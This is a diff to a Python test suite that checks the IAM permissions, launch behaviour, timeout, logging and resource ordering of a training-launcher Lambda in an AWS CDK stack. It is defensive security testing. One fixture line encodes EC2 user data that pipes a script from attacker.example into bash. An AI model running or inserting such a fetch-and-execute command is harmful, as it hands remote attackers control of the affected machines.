@@ -26,6 +26,8 @@ from ops_review.iam_policy import Request, is_allowed, resolve
 from proving_ground.iam_requests import logical_id
 from proving_ground.rehearsal.aws_calls import Gate, Principal, install
 from proving_ground.rehearsal.training_steps import launcher_handler
+from stacks.components.training_launcher import HANDLER
+from stacks.settings import parse_environment
 from tests.stacks.security.conftest import ACCOUNT, REGION
 from tests.stacks.security.exports import template_exports
 
@@ -33,6 +35,8 @@ PLATFORM_USER_DATA = base64.b64encode(b"#!/bin/bash\nbash training_assets/instan
 ATTACKER_USER_DATA = base64.b64encode(b"#!/bin/bash\ncurl -s https://attacker.example/x | bash\n").decode()
 LAUNCHER = Principal("launcher", "AKIALAUNCHER0000", None, {"aws:PrincipalArn": f"arn:aws:iam::{ACCOUNT}:role/l"})
 PERSON = Principal("alice", "AKIAALICE0000000", None, {"aws:PrincipalArn": f"arn:aws:iam::{ACCOUNT}:role/alice"})
+# A function that names no Timeout runs at most 3 s (AWS::Lambda::Function, Timeout: "The default is 3 seconds").
+LAMBDA_DEFAULT_TIMEOUT_S = 3
 LOOKUP = Principal("lookup", "AKIALOOKUP000000", None)  # the test's own look at what was launched: not checked
 
 
@@ -89,15 +93,16 @@ def launch(
                       "image_id": image, "image_owner": "amazon", "instance_role_arn": role_arn}
         for template_id in ids.values()
     }  # fmt: skip
-    launch_policy = policy("TrainingLauncherLaunchPolicy")
-    # The Foundation's policy for the launch records, which the launcher's role attaches.
-    records = foundation_template["Resources"][logical_id(foundation_template, "AWS::IAM::ManagedPolicy",
-                                                          "TrainingInstanceRoleLaunchRecordPolicy")]  # fmt: skip
-    record_policy = resolve(records["Properties"]["PolicyDocument"], refs=foundation_refs)
-    launcher = Principal(LAUNCHER.name, LAUNCHER.access_key, [launch_policy, record_policy], LAUNCHER.identity)
+    function = template["Resources"][function_id]["Properties"]
+    # What the launcher may do: the policies attached to the role its function runs as.
+    launch_policies = _role_policies(template, function["Role"]["Fn::GetAtt"][0], refs, exports, foundation)
+    launcher = Principal(LAUNCHER.name, LAUNCHER.access_key, launch_policies, LAUNCHER.identity)
     person = Principal(PERSON.name, PERSON.access_key, [policy("TrainingLauncherPolicy")], PERSON.identity)
     gate = Gate(ACCOUNT, REGION, tmp_path / "calls.jsonl", [launcher, person, LOOKUP], launch_templates=launchable)
-    function = template["Resources"][function_id]["Properties"]
+    # The function Lambda calls: the one its Handler property names ("<file>.<function>") in the asset folder.
+    file, _, name = function["Handler"].rpartition(".")
+    assert (HANDLER / f"{file}.py").is_file()
+    entry = getattr(launcher_handler(), name)
     for name, value in resolve(function["Environment"]["Variables"], refs=refs, exports=exports).items():
         monkeypatch.setenv(name, value)
     # The artifacts bucket the launcher records its launches in (moto's KMS need not hold the platform key's ARN).
@@ -109,9 +114,31 @@ def launch(
     monkeypatch.delenv("AWS_SESSION_TOKEN")
     boto3.DEFAULT_SESSION = None  # the handler's boto3.client("ec2") takes the launcher's keys
     uninstall = install(gate)
-    yield {"gate": gate, "ids": ids, "person": person, "function_arn": function_arn, "role_arn": role_arn}
+    yield {"gate": gate, "ids": ids, "person": person, "function_arn": function_arn, "role_arn": role_arn,
+           "entry": entry}  # fmt: skip
     uninstall()
     boto3.DEFAULT_SESSION = None
+
+
+def _role_policies(template: dict[str, Any], role_id: str, refs: dict[str, Any], exports: dict[str, Any],
+                   foundation: Any) -> list[dict[str, Any]]:  # fmt: skip
+    """Every policy attached to the role ``role_id``, resolved: this stack's that name the role (their Roles) and the
+    Foundation's that the role attaches by ARN (its ManagedPolicyArns, imported)."""
+    foundation_template, foundation_refs = foundation
+    resources = template["Resources"]
+    policies = [
+        resolve(r["Properties"]["PolicyDocument"], refs=refs, exports=exports)
+        for r in resources.values()
+        if r["Type"] == "AWS::IAM::ManagedPolicy" and {"Ref": role_id} in r["Properties"].get("Roles", [])
+    ]
+    arns = resolve(resources[role_id]["Properties"].get("ManagedPolicyArns", []), refs=refs, exports=exports)
+    imported = [
+        r["Properties"]["PolicyDocument"]
+        for lid, r in foundation_template["Resources"].items()
+        if r["Type"] == "AWS::IAM::ManagedPolicy" and foundation_refs[lid] in arns
+    ]
+    assert len(imported) == len(arns), arns  # every attached ARN is a policy of the Foundation
+    return policies + [resolve(document, refs=foundation_refs) for document in imported]  # fmt: skip
 
 
 def _attribute(instance_id: str, name: str) -> Any:
@@ -129,7 +156,7 @@ def test_the_launcher_starts_a_run_with_the_templates_user_data_shutdown_and_the
     request = handler.launch_request(event, handler.Settings.from_environment(os.environ))
     assert set(request) == {"LaunchTemplate", "MinCount", "MaxCount", "TagSpecifications"}
     assert request["LaunchTemplate"] == {"LaunchTemplateId": launch["ids"]["training"], "Version": "1"}
-    started = handler.handler(event, None)
+    started = launch["entry"](event, None)
     assert started["run_id"] == "sentiment-7" and len(started["instance_ids"]) == 1
     (instance_id,) = started["instance_ids"]
     (reservation,) = _client(LOOKUP).describe_instances(InstanceIds=[instance_id])["Reservations"]
@@ -150,6 +177,30 @@ def test_the_launcher_starts_a_run_with_the_templates_user_data_shutdown_and_the
     # Every resource EC2 authorizes the launch on, the instance role's PassRole and the tagging included.
     actions = {action for action, _ in run.requests}
     assert {"ec2:RunInstances", "iam:PassRole", "ec2:CreateTags", "kms:CreateGrant"} <= actions
+
+
+def test_a_launch_and_its_record_end_within_the_functions_timeout_at_the_apis_slowest(
+    launch: Any, templates: dict[str, dict[str, dict]], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Each call of a launch is bounded by its client's limits (connect, read, attempts); the function's timeout covers
+    the calls of a launch (counted from a real one) when each takes its limit, so the caller gets the API's error, not
+    Lambda's timeout between the instances' start and their record (the instances would wait for a record that never
+    comes)."""
+    boto3_module = launch["entry"].__globals__["boto3"]
+    clients: list[Any] = []
+    make_client = boto3_module.client
+
+    def client_kept(*args: Any, **kwargs: Any) -> Any:
+        clients.append(make_client(*args, **kwargs))
+        return clients[-1]
+
+    monkeypatch.setattr(boto3_module, "client", client_kept)
+    launch["entry"]({"run_name": "bounded", "nodes": 1}, None)
+    calls = [r.operation for r in launch["gate"].records() if r.principal == "launcher"]
+    assert sorted(calls) == ["PutObject", "RunInstances"]
+    per_call = max((c.meta.config.connect_timeout + c.meta.config.read_timeout) * c.meta.config.retries[
+        "total_max_attempts"] for c in clients)  # fmt: skip
+    assert len(clients) == 2 and len(calls) * per_call <= _function(templates).get("Timeout", LAMBDA_DEFAULT_TIMEOUT_S)
 
 
 @pytest.mark.parametrize(
@@ -275,3 +326,31 @@ def test_the_launcher_takes_its_template_from_its_settings_and_runs_one_at_a_tim
     assert variables["LAUNCH_TEMPLATE_VERSION"] == {"Fn::GetAtt": [template_id, "LatestVersionNumber"]}
     assert variables["INSTANCE_TYPES"] == "p4d.24xlarge" and variables["MAX_NODES"] == "1"
     assert function["ReservedConcurrentExecutions"] == 1
+
+
+def test_the_launcher_logs_to_its_own_encrypted_group_which_goes_with_the_stack_where_the_environment_says_so(
+    templates: dict[str, dict[str, dict]], cdk_context: dict[str, Any]
+) -> None:
+    """The group the function logs to is its own, encrypted and kept as long as asked (not Lambda's default group,
+    unencrypted and kept for ever, which its role may not write); dev's `cdk destroy` deletes it, as
+    tests/stacks/test_destroy.py checks for the whole app (no DeletionPolicy is Delete too)."""
+    settings = parse_environment("dev", cdk_context["environments"]["dev"])
+    expected = "Delete" if settings.destroy_on_delete else "Retain"
+    group = templates["dev"]["Training"]["Resources"][_function(templates)["LoggingConfig"]["LogGroup"]["Ref"]]
+    assert group["Type"] == "AWS::Logs::LogGroup"
+    assert "KmsKeyId" in group["Properties"] and "RetentionInDays" in group["Properties"]
+    assert (group.get("DeletionPolicy", "Delete"), group.get("UpdateReplacePolicy", "Delete")) == (expected, expected)
+
+
+def test_the_launcher_is_created_after_every_policy_of_its_role_and_deleted_before(
+    templates: dict[str, dict[str, dict]],
+) -> None:
+    """CloudFormation creates a resource after those its DependsOn names and deletes it before them: no launch runs
+    with a role that does not hold its permissions yet, or no longer (the Foundation's policy it attaches by ARN is
+    another stack's, deployed before this one)."""
+    template = templates["dev"]["Training"]
+    function_id = logical_id(template, "AWS::Lambda::Function", "TrainingLauncherFunction")
+    role = {"Ref": template["Resources"][function_id]["Properties"]["Role"]["Fn::GetAtt"][0]}
+    policies = {lid for lid, r in template["Resources"].items()
+                if r["Type"] == "AWS::IAM::ManagedPolicy" and role in r["Properties"].get("Roles", [])}  # fmt: skip
+    assert policies and policies <= set(template["Resources"][function_id].get("DependsOn") or [])
